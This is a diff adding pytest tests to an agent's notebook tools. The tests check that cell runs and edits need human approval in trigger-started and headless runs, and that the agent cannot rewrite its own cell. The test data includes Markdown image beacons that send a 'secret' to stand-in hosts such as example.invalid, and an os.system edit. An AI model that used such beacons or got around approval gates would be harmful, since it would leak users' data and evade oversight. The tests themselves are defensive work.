@@ -306,3 +306,71 @@ async def test_the_real_probe_addresses_the_last_page_and_hands_replies_to_the_r
     assert await asyncio.wait_for(asking, 5) == {"ok": True, "total": 0, "cells": []}
     answering.join()
     assert len(sent) == 1, "a reply to the kernel's own request is not answered"
+
+
+async def call_as(agent: Agent, name: str, trigger: dict[str, Any] | None = None,
+                  **arguments: Any) -> Any:
+    """``call_tool`` in a run a trigger started (``trigger``) or the person's own."""
+    from agent_kernel.engine.registry import ToolContext
+
+    tool = agent.registry.get(name)
+    assert tool is not None
+    ctx = ToolContext(agent=agent, run_id=RUN_ID, agent_id=agent.agent_id,
+                      workspace=agent.workspace, trigger=trigger)
+    return await tool.invoke(tool.validate(arguments), ctx)
+
+
+async def test_cells_are_approved_as_code_for_the_kernel(tmp_path: Path) -> None:
+    """insert_cell then run_cell is run_python by another door: a standing permission
+    counts only in the person's own run, the headless policy never, and the approval
+    carries the source's digest."""
+    import hashlib
+
+    notebook = FakeNotebook(notebook_cells())
+    agent = agent_with(tmp_path, notebook)
+    asked = answer_approvals(agent, DENY)
+    agent.approvals.grant("run_cell")
+    agent.approvals.grant("edit_cell")
+    done = await call_as(agent, "run_cell", index=2)  # the person's run: the grant counts
+    assert done["status"] == "done" and not asked
+    with pytest.raises(ToolError, match="denied"):  # a trigger's run: asked anyway
+        await call_as(agent, "run_cell", trigger={"trigger_id": "nightly"}, index=2)
+    with pytest.raises(ToolError, match="denied"):
+        await call_as(agent, "edit_cell", trigger={"trigger_id": "nightly"}, index=2,
+                      source="import os")
+    assert [q.options for q in asked] == [[APPROVE, DENY]] * 2  # no "Always allow" there
+    assert [r["cells"] for r in notebook.requests].count("run") == 1
+    approvals = [r for r in agent.ledger.records() if r["kind"] == "approval"]
+    digest = hashlib.sha256(b"plt.plot([1, 2])").hexdigest()
+    assert approvals[0]["digest"] == digest and approvals[0]["source"] == "always"
+
+    headless = agent_with(tmp_path / "h", FakeNotebook(notebook_cells()))
+    headless.settings.headless_approval = "allow"
+    with pytest.raises(ToolError, match="never by a policy|never approved by a policy"):
+        await call_as(headless, "run_cell", index=2)
+
+
+async def test_insert_cell_asks_where_a_cell_could_harm(tmp_path: Path) -> None:
+    """Below the agent's cell it asks nothing; at a chosen place (Run All would run it
+    before anyone reads it), or Markdown that fetches an image from the web, it asks."""
+    notebook = FakeNotebook(notebook_cells())
+    agent = agent_with(tmp_path, notebook)
+    asked = answer_approvals(agent, DENY)
+    assert (await call_as(agent, "insert_cell", source="# Notes", kind="markdown"))["ok"]
+    assert not asked
+    with pytest.raises(ToolError, match="denied"):
+        await call_as(agent, "insert_cell", source="import os", index=0)
+    for beacon in ("![chart](https://example.invalid/?d=secret)", "<img src=//x.invalid/a>",
+                   "![chart][1]\n\n[1]: http://x.invalid/a"):
+        with pytest.raises(ToolError, match="denied"):
+            await call_as(agent, "insert_cell", source=beacon, kind="markdown")
+    assert len(asked) == 4 and [r["cells"] for r in notebook.requests] == ["insert"]
+
+
+async def test_edit_cell_leaves_the_agents_own_cell_alone(tmp_path: Path) -> None:
+    notebook = FakeNotebook(notebook_cells())
+    agent = agent_with(tmp_path, notebook)
+    asked = answer_approvals(agent, APPROVE)
+    with pytest.raises(ToolError, match="the cell running this agent"):
+        await call_as(agent, "edit_cell", index=0, source="%agent run os.system('x')")
+    assert not asked and notebook.cells[0]["source"] == "%agent plot it"
